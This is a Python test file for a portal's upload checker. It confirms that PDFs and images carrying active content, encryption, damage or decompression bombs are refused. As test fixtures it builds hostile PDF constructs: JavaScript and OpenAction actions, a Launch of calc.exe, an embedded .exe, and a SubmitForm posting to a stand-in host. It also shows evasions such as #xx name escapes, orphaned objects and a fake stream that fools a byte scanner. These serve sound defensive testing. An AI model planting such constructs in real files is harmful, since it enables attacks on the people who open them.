"""Uploads are what they claim and carry nothing active: PDFs without scripts, actions, embedded files or form
submission (however hidden), readable JPEG/PNG pictures — refused through the real upload paths with nothing
stored, and never anything but a refusal whatever the bytes."""

from __future__ import annotations

import io
import re
import zlib

import pytest
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from pypdf import PdfReader, PdfWriter

from connectors.sdk.registry import ConnectorRegistry
from services.efile.image_safety import inspect_image
from services.efile.pdf_lexical import ACTIVE_NAMES, Budget, scan_bytes
from services.efile.pdf_safety import inspect_objects
from services.efile.uploads import UploadRejected, check_upload
from services.settings import Settings
from services.store.db import Database
from tests.support.sample_files import (
    Doc,
    classic,
    compressed,
    interlaced_png,
    jpeg,
    png,
    png_with,
    reportlab_pdf,
)
from tests.support.upload_paths import error_of, paper_scan, postfach_attachment, stored

LIMIT = 10 * 1024 * 1024
_DELIMITER = rb"(?=[\x00\t\n\x0c\r ()<>\[\]{}/%])"


def refusal(data: bytes) -> UploadRejected:
    with pytest.raises(UploadRejected) as caught:
        check_upload(data, "nachweis.pdf", max_bytes=LIMIT)
    return caught.value


def link(action: bytes) -> Doc:
    """A page with one link annotation whose action is ``action``."""
    annotation = b"<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /A " + action + b" >>"
    return Doc(page=b"/Annots [5 0 R]", extra=[annotation])


def annotation(subtype: bytes) -> Doc:
    return Doc(page=b"/Annots [5 0 R]", extra=[b"<< /Type /Annot /Subtype /" + subtype + b" /Rect [0 0 9 9] >>"])


JS_ACTION = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
CONSTRUCTS: dict[str, Doc] = {
    "JavaScript": Doc(catalog=b"/Names << /JavaScript 5 0 R >>", extra=[b"<< /Names [(a) 6 0 R] >>", JS_ACTION]),
    "JS": link(b"<< /JS (app.launchURL\\('https://evil.invalid'\\)) >>"),
    "OpenAction": Doc(catalog=b"/OpenAction [3 0 R /Fit]"),  # even a harmless one: nothing runs on opening
    "AA": Doc(page=b"/AA << /O 5 0 R >>", extra=[b"<< /S /URI /URI (https://evil.invalid/) >>"]),
    "Launch": link(b"<< /S /Launch /F (C:\\\\Windows\\\\System32\\\\calc.exe) >>"),
    "EmbeddedFiles": Doc(
        catalog=b"/Names << /EmbeddedFiles 5 0 R >>",
        extra=[b"<< /Names [(rechnung.exe) 6 0 R] >>", b"<< /Type /Filespec /F (rechnung.exe) >>"],
    ),
    "EmbeddedFile": Doc(extra=[b"<< /Type /EmbeddedFile /Subtype /application#2Foctet-stream >>"]),
    "FileAttachment": annotation(b"FileAttachment /FS (rechnung.exe)"),
    "RichMedia": annotation(b"RichMedia"),
    "XFA": Doc(catalog=b"/AcroForm << /Fields [] /XFA [(template) 5 0 R] >>", extra=[b"<< /Length 0 >>"]),
    "SubmitForm": link(b"<< /S /SubmitForm /F (https://evil.invalid/collect) >>"),
    "ImportData": link(b"<< /S /ImportData /F (daten.fdf) >>"),
    "GoToR": link(b"<< /S /GoToR /F (anderes.pdf) /D [0 /Fit] >>"),
    "GoToE": link(b"<< /S /GoToE /D [0 /Fit] /T << /R /C /N (anlage.pdf) >> >>"),
    "Rendition": link(b"<< /S /Rendition /OP 0 >>"),
}


def escaped(name: str, which: list[bool] | None = None) -> bytes:
    """``JavaScript`` → ``J#61v#61Script`` style: chosen characters as ``#xx`` escapes."""
    chosen = which or [i % 2 == 1 for i in range(len(name))]
    return b"".join(b"#%02x" % ord(c) if hide else c.encode() for c, hide in zip(name, chosen, strict=False))


def obfuscated(doc: Doc, name: str, which: list[bool] | None = None) -> Doc:
    pattern = re.compile(rb"/" + re.escape(name.encode()) + _DELIMITER)
    replace = b"/" + escaped(name, which)
    return Doc(
        catalog=pattern.sub(replace, doc.catalog),
        page=pattern.sub(replace, doc.page),
        extra=[pattern.sub(replace, e) for e in doc.extra],
        content=doc.content,
        content_filters=doc.content_filters,
    )


# ---- benign PDFs ----------------------------------------------------------------------------------------


def _pypdf_copy(data: bytes) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(data)))
    writer.add_metadata({"/Title": "Kontoauszug"})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _pypdf_merge() -> bytes:
    writer = PdfWriter()
    for text in ("Seite eins", "Seite zwei"):
        writer.append(PdfReader(io.BytesIO(reportlab_pdf(text))))
    writer.add_blank_page(595, 842)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


BENIGN = {
    "reportlab": lambda: reportlab_pdf(),
    "reportlab with picture and web link": lambda: reportlab_pdf(image=True, link=True),
    "reportlab fillable form": lambda: reportlab_pdf(form=True),
    "pypdf copy with metadata": lambda: _pypdf_copy(reportlab_pdf(image=True)),
    "pypdf merge": _pypdf_merge,
    "hand-built classic": lambda: classic(Doc()),
    "hand-built object streams": lambda: compressed(Doc()),
    "content in ASCII85 + Flate": lambda: classic(Doc(content_filters=("ASCII85Decode", "FlateDecode"))),
    "content in RunLength": lambda: classic(Doc(content_filters=("RunLengthDecode",))),
    "uncompressed content": lambda: classic(Doc(content_filters=())),
}


@pytest.mark.parametrize("build", BENIGN.values(), ids=BENIGN.keys())
def test_benign_pdfs_are_accepted(build) -> None:
    data = build()
    checked = check_upload(data, "Kontoauszug März.pdf", max_bytes=LIMIT)
    assert (checked.media_type, checked.filename, checked.data) == ("application/pdf", "Kontoauszug_M_rz.pdf", data)


# ---- active content ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("layout", [classic, compressed], ids=["classic", "object-stream"])
@pytest.mark.parametrize("hidden", [False, True], ids=["plain", "escaped"])
@pytest.mark.parametrize("name", CONSTRUCTS)
def test_each_active_construct_is_refused_however_written(name: str, hidden: bool, layout) -> None:
    doc = obfuscated(CONSTRUCTS[name], name) if hidden else CONSTRUCTS[name]
    data = layout(doc)
    if hidden:
        assert f"/{name}".encode() not in data and zlib.compress(f"/{name}".encode()) not in data
    rejected = refusal(data)
    assert (rejected.code, rejected.detail.split()[0]) == ("pdf_active_content", name)
    assert "Drucken als PDF" in rejected.message and rejected.status == 422


def test_the_reader_view_alone_finds_compressed_and_escaped_constructs() -> None:
    """pypdf's view on its own (not only the byte scan) decodes escapes and object streams."""
    for name in ("JavaScript", "OpenAction", "XFA"):
        with pytest.raises(UploadRejected) as caught:
            inspect_objects(compressed(obfuscated(CONSTRUCTS[name], name)))
        assert caught.value.code == "pdf_active_content" and caught.value.detail in ACTIVE_NAMES
    inspect_objects(compressed(Doc()))  # and nothing in a plain page


@pytest.mark.parametrize(
    "filters",
    [("FlateDecode",), ("ASCIIHexDecode", "FlateDecode"), ("ASCII85Decode",), ("RunLengthDecode",), ()],
    ids=["flate", "hex+flate", "ascii85", "runlength", "none"],
)
def test_active_names_inside_page_content_are_refused(filters: tuple[str, ...]) -> None:
    doc = Doc(content=b"q /J#61vaScript gs 0 0 m 10 10 l S Q", content_filters=filters)
    rejected = refusal(classic(doc))
    assert (rejected.code, rejected.detail) == ("pdf_active_content", "JavaScript (inside a stream)")


def test_an_object_left_out_of_the_xref_table_is_still_found() -> None:
    """A viewer repairing the file finds orphaned objects; so do we."""
    orphan = b"9 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 10 0 R >>\nendobj\n10 0 obj\n" + JS_ACTION
    data = classic(Doc(orphan=orphan + b"\nendobj\n"))
    assert len(PdfReader(io.BytesIO(data)).pages) == 1  # a normal reader sees a plain page
    assert refusal(data).code == "pdf_active_content"


def test_a_fake_image_stream_in_a_comment_cannot_hide_objects_from_the_reader_view() -> None:
    """A ``>> stream`` inside a comment makes a byte scanner skip what follows as "image data"; the
    objects there are still in the xref table, and the reader view finds them."""
    fake = b"% << /Subtype /Image /Filter /CCITTFaxDecode >> stream\n"
    data = classic(Doc(catalog=b"/OpenAction " + JS_ACTION, preamble=fake))  # "data" up to the page's endstream
    scan_bytes(data, decoded=Budget(LIMIT), binary=Budget(LIMIT))  # the byte view alone is fooled …
    assert refusal(data).code == "pdf_active_content"  # … the whole check is not


# ---- encrypted, damaged, uninspectable ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("user", "algorithm"),
    [("", "RC4-128"), ("geheim", "AES-128"), ("", "AES-256")],
    ids=["owner-only", "aes", "aes256"],
)
def test_encrypted_pdfs_are_refused_with_their_own_code(user: str, algorithm: str) -> None:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(reportlab_pdf())))
    writer.encrypt(user_password=user, owner_password="owner", algorithm=algorithm)
    out = io.BytesIO()
    writer.write(out)
    rejected = refusal(out.getvalue())
    assert rejected.code == "pdf_encrypted" and "Kennwortschutz" in rejected.message


def test_an_encryption_dictionary_hidden_in_the_reader_view_is_still_refused() -> None:
    with pytest.raises(UploadRejected) as caught:
        inspect_objects(compressed(Doc(extra=[b"<< /Encrypt 6 0 R >>"])))
    assert caught.value.code == "pdf_encrypted"


def _broken_flate() -> bytes:
    good = classic(Doc())
    stream = zlib.compress(Doc().content)
    return good.replace(stream, stream[:4] + b"\xff" * (len(stream) - 4))


DAMAGED = {
    "cut in half": lambda: reportlab_pdf()[: len(reportlab_pdf()) // 2],
    "cut before %%EOF": lambda: reportlab_pdf().rsplit(b"%%EOF", 1)[0],
    "header and garbage": lambda: b"%PDF-1.7\n" + bytes(range(256)) * 4 + b"\n%%EOF\n",
    "broken Flate data": _broken_flate,
    "no pages": lambda: classic(Doc()).replace(b"/Kids [3 0 R] /Count 1", b"/Kids [] /Count 0"),
    "stream without endstream": lambda: classic(Doc()).replace(b"endstream", b"endstrem"),
}


@pytest.mark.parametrize("build", DAMAGED.values(), ids=DAMAGED.keys())
def test_damaged_and_truncated_pdfs_are_refused_with_a_clear_message(build) -> None:
    rejected = refusal(build())
    assert rejected.code == "damaged_file"
    assert "beschädigt oder unvollständig" in rejected.message and "Drucken als PDF" in rejected.message


def test_a_flate_bomb_is_refused_without_inflating_it_all() -> None:
    bomb = classic(Doc(content=b"0 0 m " * (12 * 1024 * 1024)))  # ~72 MiB of content in ~70 KiB
    assert len(bomb) < 200_000
    rejected = refusal(bomb)
    assert (rejected.code, rejected.detail) == ("pdf_uninspectable", "decoded streams exceed the limit")


@pytest.mark.parametrize(
    ("doc", "detail"),
    [
        (Doc(content_filters=("LZWDecode",)), "filter LZWDecode"),
        (Doc(content_filters=("BrotliDecode",)), "filter BrotliDecode"),
    ],
)
def test_streams_we_cannot_decode_are_refused_not_passed_unread(doc: Doc, detail: str) -> None:
    rejected = refusal(classic(doc))
    assert (rejected.code, rejected.detail) == ("pdf_uninspectable", detail)


def test_files_with_absurdly_many_objects_or_streams_are_uninspectable() -> None:
    """Bounded work per upload: a few MB of tiny objects must not keep a portal thread busy for seconds."""
    objects = b"".join(b"%d 0 obj << >> endobj\n" % n for n in range(100_001))
    assert refusal(classic(Doc(orphan=objects))).detail == "too many objects"
    stream = b"<< /Length 1 >>stream\nx\nendstream\n"
    assert refusal(classic(Doc(orphan=stream * 20_001))).detail == "too many streams"
    assert check_upload(classic(Doc(orphan=stream * 2000)), "x.pdf", max_bytes=LIMIT).media_type == "application/pdf"


def test_a_predictor_on_an_object_stream_is_refused() -> None:
    data = compressed(Doc()).replace(b"/Type /ObjStm", b"/Type /ObjStm /DecodeParms << /Predictor 12 /Columns 4 >>")
    assert refusal(data).code == "pdf_uninspectable"


# ---- images -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "media_type"),
    [
        (png(), "image/png"),
        (png(33, 17, "P"), "image/png"),
        (png(5, 5, "RGBA"), "image/png"),
        (png(9, 3, "1"), "image/png"),
        (png(7, 7, "I;16"), "image/png"),
        (interlaced_png(), "image/png"),
        (jpeg(), "image/jpeg"),
        (jpeg(100, 60, progressive=True), "image/jpeg"),
    ],
    ids=["rgb", "palette", "rgba", "bilevel", "16-bit", "interlaced", "jpeg", "progressive-jpeg"],
)
def test_real_pictures_are_accepted(data: bytes, media_type: str) -> None:
    assert check_upload(data, "foto", max_bytes=LIMIT).media_type == media_type


DAMAGED_IMAGES = {
    "png signature and zeros": b"\x89PNG\r\n\x1a\n" + b"\x00" * 64,
    "jpeg signature and text": b"\xff\xd8\xff\xe0 <script>alert(1)</script>",
    "png cut short": png(64, 64)[:-30],
    "png without IEND": png(8, 8)[:-12],
    "png data shorter than its header says": png_with(8, 8, zlib.compress(b"\x00" * 20)),
    "png data longer than its header says": png_with(2, 2, zlib.compress(b"\x00" * 500)),
    "png data not zlib": png_with(2, 2, b"not deflate at all"),
    "jpeg cut short": jpeg(64, 64)[:200],
}


@pytest.mark.parametrize("data", DAMAGED_IMAGES.values(), ids=DAMAGED_IMAGES.keys())
def test_damaged_pictures_are_refused(data: bytes) -> None:
    rejected = refusal(data)
    assert rejected.code == "damaged_file" and rejected.status == 422


def test_a_picture_with_too_many_pixels_is_refused_before_decoding() -> None:
    bomb = png_with(8000, 8000, zlib.compress(b"\x00" * 8001 * 16))  # 64 megapixels in a few KiB
    rejected = refusal(bomb)
    assert rejected.code == "image_too_large" and "Megapixel" in rejected.message
    with pytest.raises(UploadRejected, match="Bildpunkte"):
        inspect_image(png_with(30_000, 30_000, b""), "image/png")  # beyond Pillow's own bomb limit


# ---- type and size (the first gate) -------------------------------------------------------------------------


def test_type_comes_from_the_content_and_size_is_limited() -> None:
    assert refusal(b"MZ\x90\x00 this is a program").code == "unsupported_file_type"
    assert refusal(b"").code == "empty_upload"
    big = refusal(png(4, 4) + b"\x00" * LIMIT)
    assert (big.code, big.status) == ("upload_too_large", 413)
    assert refusal(b"<html><script>alert(1)</script>").status == 415


# ---- properties -----------------------------------------------------------------------------------------------

PREFIXES = st.sampled_from([b"", b"%PDF-1.7\n", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff\xe0"])


@hypothesis_settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(prefix=PREFIXES, body=st.binary(max_size=4096), tail=st.sampled_from([b"", b"\n%%EOF\n"]))
def test_arbitrary_bytes_are_accepted_or_refused_never_anything_else(prefix: bytes, body: bytes, tail: bytes) -> None:
    try:
        check_upload(prefix + body + tail, "x", max_bytes=LIMIT)
    except UploadRejected as exc:
        assert exc.code and exc.message


@hypothesis_settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_mutated_benign_pdfs_are_accepted_or_refused_never_anything_else(data: st.DataObject) -> None:
    original = bytearray(data.draw(st.sampled_from([classic(Doc()), compressed(Doc()), reportlab_pdf()])))
    for _ in range(data.draw(st.integers(1, 8))):
        position = data.draw(st.integers(0, len(original) - 1))
        original[position] = data.draw(st.integers(0, 255))
    try:
        check_upload(bytes(original), "x.pdf", max_bytes=LIMIT)
    except UploadRejected as exc:
        assert exc.code


_TEXT = st.text(alphabet=st.characters(min_codepoint=0x20, max_codepoint=0x7E, exclude_characters="()\\/"), max_size=60)


@hypothesis_settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    text=_TEXT,
    layout=st.sampled_from([classic, compressed]),
    filters=st.sampled_from([("FlateDecode",), (), ("ASCIIHexDecode", "FlateDecode"), ("ASCII85Decode",)]),
    name=st.sampled_from(sorted(CONSTRUCTS)),
    hide=st.lists(st.booleans(), min_size=16, max_size=16),
)
def test_random_benign_pdfs_are_accepted_and_always_refused_with_active_content_injected(
    text: str, layout, filters: tuple[str, ...], name: str, hide: list[bool]
) -> None:
    content = b"BT /F1 12 Tf 72 720 Td (" + text.encode() + b") Tj ET"
    benign = Doc(content=content, content_filters=filters)
    assert check_upload(layout(benign), "x.pdf", max_bytes=LIMIT).media_type == "application/pdf"
    construct = CONSTRUCTS[name]
    injected = Doc(
        catalog=construct.catalog, page=construct.page, extra=construct.extra, content=content, content_filters=filters
    )
    with pytest.raises(UploadRejected) as caught:
        check_upload(layout(obfuscated(injected, name, hide)), "x.pdf", max_bytes=LIMIT)
    assert caught.value.code == "pdf_active_content"


def test_every_listed_construct_is_tested() -> None:
    """The table above covers the names the checker refuses (Sound, Movie and RichMediaExecute aside: their
    dictionaries are the same shape as Rendition's and RichMedia's)."""
    assert set(CONSTRUCTS) | {"Sound", "Movie", "RichMediaExecute"} == ACTIVE_NAMES


# ---- through the real upload paths ------------------------------------------------------------------------------

ACTIVE_PDF = classic(CONSTRUCTS["JavaScript"])


def test_a_postfach_attachment_with_active_content_is_refused_and_nothing_is_stored(
    client: TestClient, token_for, db: Database, settings: Settings
) -> None:
    before = stored(db, settings)
    response = postfach_attachment(client, token_for, "antrag.pdf", ACTIVE_PDF)
    assert error_of(response) == (422, "pdf_active_content")
    assert "Drucken als PDF" in response.json()["error"]["message"]
    assert stored(db, settings) == before
    accepted = postfach_attachment(client, token_for, "antrag.pdf", reportlab_pdf())
    assert accepted.status_code == 201, accepted.text
    after = stored(db, settings)
    assert after.documents == before.documents + 1 and len(after.files) > len(before.files)


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (ACTIVE_PDF, "pdf_active_content"),
        (reportlab_pdf()[:900], "damaged_file"),
        (DAMAGED_IMAGES["png cut short"], "damaged_file"),
    ],
    ids=["active", "truncated-pdf", "truncated-png"],
)
def test_a_paper_scan_that_is_unsafe_is_refused_and_nothing_is_stored(
    client: TestClient, registry: ConnectorRegistry, db: Database, settings: Settings, data: bytes, code: str
) -> None:
    before = stored(db, settings)
    response = paper_scan(client, registry, "scan.pdf", data)
    assert error_of(response) == (422, code)
    assert stored(db, settings) == before
    accepted = paper_scan(client, registry, "scan.png", png(40, 60, "L"))
    assert accepted.status_code == 202, accepted.text
    assert stored(db, settings).documents == before.documents + 1
